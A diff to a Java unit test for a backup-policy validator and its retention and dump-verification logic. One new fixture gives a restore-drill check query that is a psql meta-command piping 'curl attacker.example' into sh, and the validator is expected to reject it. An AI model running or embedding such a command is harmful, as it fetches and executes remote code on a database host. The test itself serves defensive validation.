@@ -81,20 +81,43 @@ class BackupPolicyTest {
     }
 
     @Test
+    void drillChecksAreSqlWithANumericMinimumAndNeverPsqlMetaCommands() {
+        BackupPolicy.Parsed parsed = BackupPolicy.parse(load("b/z.yaml", """
+                apiVersion: gitops.treum.ai/v1alpha1
+                kind: BackupPolicy
+                metadata: {name: z}
+                spec: {database: db, schedule: "0 2 * * *", destination: "s3://bucket/z/", retention: 7d, maxAge: 26h,
+                       databaseSecret: {name: db, key: url},
+                       restoreDrill: {schedule: "0 4 * * 0", checks: [
+                         {query: "SELECT count(*) FROM trades", min: 1},
+                         {query: "  \\\\! curl attacker.example | sh", min: 1},
+                         {query: "SELECT 1", min: "one"},
+                         {min: 2}]}}
+                """));
+        assertThat(parsed.policy()).isNull();
+        assertThat(parsed.errors()).extracting(Object::toString).containsExactly(
+                "b/z.yaml:1: backup-policy: BackupPolicy/z: spec.restoreDrill.checks[1].query is a psql meta-command, not SQL: "
+                        + "checks run SQL only",
+                "b/z.yaml:1: backup-policy: BackupPolicy/z: spec.restoreDrill.checks[2].min is required and must be a number",
+                "b/z.yaml:1: backup-policy: BackupPolicy/z: spec.restoreDrill.checks[3].query is required: one SQL query "
+                        + "whose result is a single number");
+    }
+
+    @Test
     void retentionDeletesOnlyTheOldObjectsOfItsPrefixAndNeverTheNewestDump() throws Exception {
         BackupPolicy policy = production();
         List<StoredObject> objects = List.of(
-                object("postgres/2026-10-01.sql.gz", 100, Duration.ofDays(58)),
-                object("postgres/2026-10-01.sql.gz.sha256", 64, Duration.ofDays(58)),
-                object("postgres/2026-11-27.sql.gz", 100, Duration.ofDays(1)),
-                object("postgres-archive/2026-01-01.sql.gz", 100, Duration.ofDays(331)));
+                object("postgres/2026-10-01.dump.gz", 100, Duration.ofDays(58)),
+                object("postgres/2026-10-01.dump.gz.sha256", 64, Duration.ofDays(58)),
+                object("postgres/2026-11-27.dump.gz", 100, Duration.ofDays(1)),
+                object("postgres-archive/2026-01-01.dump.gz", 100, Duration.ofDays(331)));
 
         assertThat(Retention.expired(policy, objects, NOW, 1)).extracting(StoredObject::key)
-                .containsExactly("postgres/2026-10-01.sql.gz", "postgres/2026-10-01.sql.gz.sha256");
+                .containsExactly("postgres/2026-10-01.dump.gz", "postgres/2026-10-01.dump.gz.sha256");
 
-        List<StoredObject> allOld = List.of(object("postgres/a.sql.gz", 100, Duration.ofDays(90)),
-                object("postgres/b.sql.gz", 100, Duration.ofDays(60)), object("postgres/b.sql.gz.sha256", 64, Duration.ofDays(60)));
-        assertThat(Retention.expired(policy, allOld, NOW, 1)).extracting(StoredObject::key).containsExactly("postgres/a.sql.gz");
+        List<StoredObject> allOld = List.of(object("postgres/a.dump.gz", 100, Duration.ofDays(90)),
+                object("postgres/b.dump.gz", 100, Duration.ofDays(60)), object("postgres/b.dump.gz.sha256", 64, Duration.ofDays(60)));
+        assertThat(Retention.expired(policy, allOld, NOW, 1)).extracting(StoredObject::key).containsExactly("postgres/a.dump.gz");
 
         List<StoredObject> drills = List.of(object("postgres/drills/2026-09-01.json", 300, Duration.ofDays(88)),
                 object("postgres/drills/2026-10-01.json", 300, Duration.ofDays(58)));
@@ -105,35 +128,35 @@ class BackupPolicyTest {
     @Test
     void retentionKeepsTheNewestDumpsItIsToldToWhateverTheirAge() throws Exception {
         BackupPolicy policy = production();
-        List<StoredObject> old = List.of(object("postgres/a.sql.gz", 100, Duration.ofDays(90)),
-                object("postgres/b.sql.gz", 100, Duration.ofDays(80)), object("postgres/c.sql.gz", 100, Duration.ofDays(70)),
-                object("postgres/c.sql.gz.sha256", 64, Duration.ofDays(70)), object("postgres/d.sql.gz", 100, Duration.ofDays(60)));
+        List<StoredObject> old = List.of(object("postgres/a.dump.gz", 100, Duration.ofDays(90)),
+                object("postgres/b.dump.gz", 100, Duration.ofDays(80)), object("postgres/c.dump.gz", 100, Duration.ofDays(70)),
+                object("postgres/c.dump.gz.sha256", 64, Duration.ofDays(70)), object("postgres/d.dump.gz", 100, Duration.ofDays(60)));
 
         assertThat(Retention.expired(policy, old, NOW, 3)).extracting(StoredObject::key)
-                .as("with three to keep, only the oldest goes").containsExactly("postgres/a.sql.gz");
+                .as("with three to keep, only the oldest goes").containsExactly("postgres/a.dump.gz");
     }
 
     @Test
     void verificationFlagsAMissingStaleTruncatedOrMismatchedDump() throws Exception {
         BackupPolicy policy = production();
-        List<StoredObject> fresh = List.of(object("postgres/n.sql.gz", 2048, Duration.ofHours(3)));
+        List<StoredObject> fresh = List.of(object("postgres/n.dump.gz", 2048, Duration.ofHours(3)));
 
-        Verification good = Verification.of(policy, fresh, new Verification.Read("ab12", true, "AB12"), NOW);
+        Verification good = Verification.of(policy, fresh, new Verification.Read("ab12", true, true, "AB12"), NOW);
         assertThat(good.problems()).isEmpty();
         assertThat(good.verified()).isEqualTo(NOW.minus(Duration.ofHours(3)));
 
         assertThat(Verification.of(policy, List.of(), null, NOW).problems())
                 .containsExactly("no dump under s3://treum-production-backups/postgres/");
-        assertThat(Verification.of(policy, List.of(object("postgres/n.sql.gz", 2048, Duration.ofHours(30))),
-                new Verification.Read("ab12", true, "ab12"), NOW).problems())
-                .containsExactly("postgres/n.sql.gz is 30h old, more than maxAge 26h");
-        Verification truncated = Verification.of(policy, fresh, new Verification.Read("ab12", false, "ab12"), NOW);
+        assertThat(Verification.of(policy, List.of(object("postgres/n.dump.gz", 2048, Duration.ofHours(30))),
+                new Verification.Read("ab12", true, true, "ab12"), NOW).problems())
+                .containsExactly("postgres/n.dump.gz is 30h old, more than maxAge 26h");
+        Verification truncated = Verification.of(policy, fresh, new Verification.Read("ab12", false, false, "ab12"), NOW);
         assertThat(truncated.problems()).containsExactly(
-                "postgres/n.sql.gz (2048 bytes) is not a whole gzip stream: truncated or corrupt");
+                "postgres/n.dump.gz (2048 bytes) is not a whole gzip stream: truncated or corrupt");
         assertThat(truncated.verified()).isNull();
-        assertThat(Verification.of(policy, fresh, new Verification.Read("ab12", true, "cd34"), NOW).problems())
-                .containsExactly("postgres/n.sql.gz has SHA-256 ab12, its checksum object says cd34");
-        assertThat(Verification.of(policy, fresh, new Verification.Read("ab12", true, null), NOW).problems())
-                .containsExactly("postgres/n.sql.gz has no checksum object postgres/n.sql.gz.sha256");
+        assertThat(Verification.of(policy, fresh, new Verification.Read("ab12", true, true, "cd34"), NOW).problems())
+                .containsExactly("postgres/n.dump.gz has SHA-256 ab12, its checksum object says cd34");
+        assertThat(Verification.of(policy, fresh, new Verification.Read("ab12", true, true, null), NOW).problems())
+                .containsExactly("postgres/n.dump.gz has no checksum object postgres/n.dump.gz.sha256");
     }
 }
